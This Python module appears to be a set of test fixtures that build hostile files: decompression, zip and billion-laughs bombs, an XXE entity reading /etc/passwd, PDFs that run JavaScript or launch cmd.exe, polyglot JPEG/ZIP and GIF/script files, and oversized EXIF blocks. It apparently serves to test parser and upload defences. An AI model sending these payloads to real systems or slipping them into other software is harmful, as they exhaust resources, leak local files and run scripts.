"""Files made to harm whoever opens them: real bytes, made on the spot."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """Return a PNG that says it is so large; `data` are its packed dots."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def pixel_bomb() -> bytes:
    """Return 3.6 thousand million white dots in a few kilobytes."""
    return png(60_000, 60_000, bytes(1 << 20))


def office(text: str = "", *, document: bytes | None = None, more: dict[str, bytes] | None = None) -> bytes:
    """Return a document of a word processor."""
    out = io.BytesIO()
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines())
    made = f'<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>'.encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{WORD}"/></Types>')
        archive.writestr("word/document.xml", made if document is None else document)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """Return a document whose text unpacks to a gigabyte."""
    out = io.BytesIO(office())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/footnotes.xml", "w") as part,
    ):
        part.write(b'<w:document xmlns:w="w"><w:t>')
        for _ in range(1024):
            part.write(b"x" * (1 << 20))
    return out.getvalue()


def entity_bomb() -> bytes:
    """Return a document of a thousand million laughs."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><w:document xmlns:w="w"><w:t>&l9;</w:t></w:document>'
    return office(document=text.encode())


def outside_entity() -> bytes:
    """Return a document that asks for a file of this machine."""
    asked = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return office(document=f'{asked}<w:document xmlns:w="w"><w:t>&x;</w:t></w:document>'.encode())


def pdf_with(**catalog: DictionaryObject) -> bytes:
    """Return a PDF of one page with these members in its catalog."""
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=595, height=842)
    for name, value in catalog.items():
        writer.root_object[NameObject(f"/{name}")] = value
    writer.write(out)
    return out.getvalue()


def scripted_pdf() -> bytes:
    """Return a PDF that runs a script when it is opened."""
    return pdf_with(OpenAction=action("JavaScript", JS="app.alert(1)"))


def launching_pdf() -> bytes:
    """Return a PDF with a note that starts a program when it is touched."""
    writer, out = PdfWriter(), io.BytesIO()
    page = writer.add_blank_page(width=595, height=842)
    note = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action("Launch", F="cmd.exe")}
    )
    page[NameObject("/Annots")] = ArrayObject([note])
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    """Return a PDF with a file attached to it."""
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("run.exe", b"MZ")
    writer.write(out)
    return out.getvalue()


def action(kind: str, **told: str) -> DictionaryObject:
    """Return an action of a PDF."""
    members = {NameObject("/S"): NameObject(f"/{kind}")}
    return DictionaryObject(
        {**members, **{NameObject(f"/{name}"): TextStringObject(one) for name, one in told.items()}}
    )


def jpeg_and_zip() -> bytes:
    """Return a photo that is a ZIP file too, as its end says."""
    photo, archive = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(photo, "JPEG")
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("run.exe", b"MZ")
    return photo.getvalue() + archive.getvalue()


def gif_and_script() -> bytes:
    """Return a picture that a careless browser takes for a page."""
    return b"GIF89a/*<script>alert(document.domain)</script>*/=1;"


def jpeg_of_many_entries() -> bytes:
    """Return a photo whose EXIF block claims 65,535 entries, again and again."""
    entries = b"".join(struct.pack("<HHII", tag & 0xFFFF, 2, 4, 8) for tag in range(5_400))
    many = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 0xFFFF) + entries
    photo = io.BytesIO()
    Image.new("RGB", (8, 6), "teal").save(photo, "JPEG", exif=b"Exif\x00\x00" + many)
    return photo.getvalue()


def png_of_a_million_entries() -> bytes:
    """Return a picture with an EXIF block of a million entries."""
    entry = struct.pack("<HHII", 0x010F, 2, 4, 8)
    block = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 0xFFFF) + entry * 1_000_000
    name = b"eXIf"
    chunk = struct.pack(">I", len(block)) + name + block + struct.pack(">I", zlib.crc32(name + block))
    made = png(8, 6, bytes((8 * 3 + 1) * 6))
    return made[:33] + chunk + made[33:]
